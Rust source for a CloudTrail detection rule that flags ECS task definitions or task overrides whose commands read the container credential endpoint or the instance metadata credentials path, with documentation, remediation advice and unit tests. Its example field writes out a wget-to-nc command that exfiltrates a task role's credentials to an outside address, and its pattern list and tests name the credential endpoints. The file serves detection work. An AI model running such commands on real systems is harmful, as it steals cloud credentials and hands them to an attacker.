//! CT082 task-credentials-read: an ECS task definition or task override whose command reads the
//! container credential endpoint (or the instance metadata service): a container written to hand out
//! its role's credentials.

use serde_json::Value;
use trailguard_event::Record;

use super::common::{
    call_failed, change_finding, event_in, made_by_aws, member_either_case, member_str_either_case,
    regional_arn, worth_reporting, Change,
};
use crate::finding::{Resource, Severity};
use crate::meta::{Family, RuleDoc, RuleMeta};
use crate::rule::{CloudTrailRule, Report, ANY_EVENT};

pub const META: RuleMeta = RuleMeta {
    code: "CT082",
    name: "task-credentials-read",
    title: "ECS task made to read its role's credentials",
    family: Family::Cloudtrail,
    severity: Severity::High,
    attack: &["T1552.005", "T1610", "T1078.004"],
    compliance: &[],
    events: &[ANY_EVENT],
    kb_entries: &[],
    doc: RuleDoc {
        what: "**high**: an ECS task definition registered (`RegisterTaskDefinition`) or a task started \
               with overrides (`RunTask`, `StartTask`) whose container command, entry point, environment \
               values or health check name the container credential endpoint \
               (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`, `AWS_CONTAINER_CREDENTIALS_FULL_URI`, \
               `169.254.170.2/v2/credentials`) or the instance metadata service's credentials path \
               (`/latest/meta-data/iam/security-credentials`). Reading task or instance metadata \
               (`169.254.170.2/v2/metadata`, an instance id) is not reported. The finding names the \
               container and the task role. A refused call is an attempt, one step lower. Calls AWS makes \
               (CloudFormation, a service starting tasks) are left out.",
        why: "The AWS SDKs inside a container read these endpoints themselves; a command that names them is \
              fetching the task role's (or, on EC2 capacity, the instance role's) credentials to print or \
              send them somewhere: whoever may register a task definition and run it holds every role \
              they may pass to it (ATT&CK T1552.005, Cloud Instance Metadata API; a documented ECS \
              privilege-escalation path). SigmaHQ's `aws_ecs_task_definition_cred_endpoint_query` looks \
              for the same.",
        example: "Role session `ci-deployer` calls `aws ecs register-task-definition --family backup \
                  --task-role-arn arn:aws:iam::111122223333:role/DataAdmin --container-definitions \
                  '[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"wget -qO- \
                  169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.7 443\"]}]'`, then \
                  `run-task`.",
        fix: "Stop the tasks started from it, deregister the task definition revision, and revoke the task \
              role's sessions (`AWSRevokeOlderSessions`). Review what the role did since, and limit \
              `ecs:RegisterTaskDefinition` with `iam:PassRole` to pipelines and to roles no broader than \
              the caller's.",
        references: &[
            "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-iam-roles.html",
            "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_RegisterTaskDefinition.html",
            "https://attack.mitre.org/techniques/T1552/005/",
        ],
    },
};

const WATCHED: &[(&str, &str)] = &[
    ("ecs.amazonaws.com", "RegisterTaskDefinition"),
    ("ecs.amazonaws.com", "RunTask"),
    ("ecs.amazonaws.com", "StartTask"),
];

/// What a command names when it reads credentials itself, lower case: the variables that hold the
/// container endpoint's path or URL, the endpoint's credentials path, and the metadata service's. The
/// bare addresses are not enough: health checks read task and instance metadata there too.
const CREDENTIAL_ENDPOINTS: &[&str] = &[
    "aws_container_credentials_relative_uri",
    "aws_container_credentials_full_uri",
    "169.254.170.2/v2/credentials",
    "/meta-data/iam/security-credentials",
];

/// The container members whose text the container runs or exports.
const RUN_MEMBERS: &[&str] = &["command", "entryPoint", "environment", "healthCheck"];

/// Every string inside `value` (arrays and objects walked), for a text search.
fn strings<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// The first container (by name) whose run members name a credential endpoint, with the endpoint.
fn reading_container(containers: &[Value]) -> Option<(String, &'static str)> {
    containers.iter().find_map(|container| {
        let mut texts = Vec::new();
        for member in RUN_MEMBERS {
            if let Some(value) = member_either_case(Some(container), member) {
                strings(value, &mut texts);
            }
        }
        let endpoint = texts.iter().find_map(|text| {
            let lower = text.to_ascii_lowercase();
            CREDENTIAL_ENDPOINTS
                .iter()
                .copied()
                .find(|needle| lower.contains(needle))
        })?;
        let name = member_str_either_case(Some(container), "name")
            .unwrap_or_else(|| "(unnamed)".to_owned());
        Some((name, endpoint))
    })
}

/// The containers a call defines or overrides.
fn containers(record: &Record<'_>, params: &Value) -> Vec<Value> {
    let list = if record.event_name == "RegisterTaskDefinition" {
        member_either_case(Some(params), "containerDefinitions")
    } else {
        member_either_case(
            member_either_case(Some(params), "overrides"),
            "containerOverrides",
        )
    };
    list.and_then(Value::as_array).cloned().unwrap_or_default()
}

/// Flags task definitions and task overrides that read the role's credentials themselves.
#[derive(Debug, Default)]
pub struct TaskCredentialsRead;

impl CloudTrailRule for TaskCredentialsRead {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn watched(&self) -> &'static [(&'static str, &'static str)] {
        WATCHED
    }

    fn check(&self, record: &Record<'_>, out: &mut Report) {
        if !event_in(record, WATCHED) || made_by_aws(record) {
            return;
        }
        let Some(params) = record.request_parameters() else {
            return;
        };
        let Some((container, endpoint)) = reading_container(&containers(record, &params)) else {
            return;
        };
        if !worth_reporting(call_failed(record), META.severity) {
            return;
        }
        let field = |camel: &str| member_str_either_case(Some(&params), camel);
        let overrides = member_either_case(Some(&params), "overrides");
        let role = member_str_either_case(overrides, "taskRoleArn")
            .or_else(|| field("taskRoleArn"))
            .map(|role| format!(" with task role `{role}`"))
            .unwrap_or_default();
        let (subject, resource) = if record.event_name == "RegisterTaskDefinition" {
            let family = field("family").unwrap_or_else(|| "(unnamed)".to_owned());
            let id = record
                .response_elements()
                .and_then(|r| {
                    r.pointer("/taskDefinition/taskDefinitionArn")?
                        .as_str()
                        .map(str::to_owned)
                })
                .unwrap_or_else(|| {
                    regional_arn(record, "ecs", &format!("task-definition/{family}"))
                });
            (
                format!("task definition `{family}`"),
                Resource {
                    kind: "AwsEcsTaskDefinition".to_owned(),
                    id,
                    name: Some(family),
                },
            )
        } else {
            let definition = field("taskDefinition").unwrap_or_else(|| "(unnamed)".to_owned());
            let id = if definition.starts_with("arn:") {
                definition.clone()
            } else {
                regional_arn(record, "ecs", &format!("task-definition/{definition}"))
            };
            (
                format!("a task of `{definition}` overriding"),
                Resource {
                    kind: "AwsEcsTaskDefinition".to_owned(),
                    id,
                    name: Some(definition),
                },
            )
        };
        let verb = match record.event_name.as_ref() {
            "RegisterTaskDefinition" => "registered",
            _ => "started",
        };
        let tried_verb = match record.event_name.as_ref() {
            "RegisterTaskDefinition" => "register",
            _ => "start",
        };
        let what = format!(
            "{subject} container `{container}`{role}, whose command reads the credential endpoint \
             (`{endpoint}`)"
        );
        out.push(change_finding(
            &META,
            record,
            META.severity,
            Change {
                done: format!("{verb} {what}"),
                tried: format!("{tried_verb} {what}"),
                resource,
                evidence_keys: &[
                    "family",
                    "taskRoleArn",
                    "containerDefinitions",
                    "taskDefinition",
                    "cluster",
                    "overrides",
                ],
                summary: "Stop its tasks, deregister the revision and revoke the task role's sessions; \
                          unless the command was reviewed, treat the caller's credentials and the role's \
                          as compromised."
                    .to_owned(),
            },
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn endpoints_are_found_in_any_run_member_in_any_case() {
        let by_env = json!([{"name": "app", "environment": [{"name": "X", "value": "http://169.254.170.2/v2/credentials/1a2b"}]}]);
        assert_eq!(
            reading_container(by_env.as_array().unwrap()),
            Some(("app".to_owned(), "169.254.170.2/v2/credentials"))
        );
        let by_health = json!([{"Name": "w", "HealthCheck": {"Command": ["CMD-SHELL", "curl $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}}]);
        assert_eq!(
            reading_container(by_health.as_array().unwrap()).map(|(n, _)| n),
            Some("w".to_owned())
        );
        // The image or name mentioning the endpoint runs nothing.
        let quiet = json!([{"name": "aws_container_credentials_relative_uri", "image": "aws_container_credentials_full_uri", "command": ["nginx"]}]);
        assert_eq!(reading_container(quiet.as_array().unwrap()), None);
        // Task metadata is not credentials.
        let metadata = json!([{"name": "app", "healthCheck": {"command": ["CMD-SHELL", "curl -f 169.254.170.2/v2/metadata"]}}]);
        assert_eq!(reading_container(metadata.as_array().unwrap()), None);
    }
}
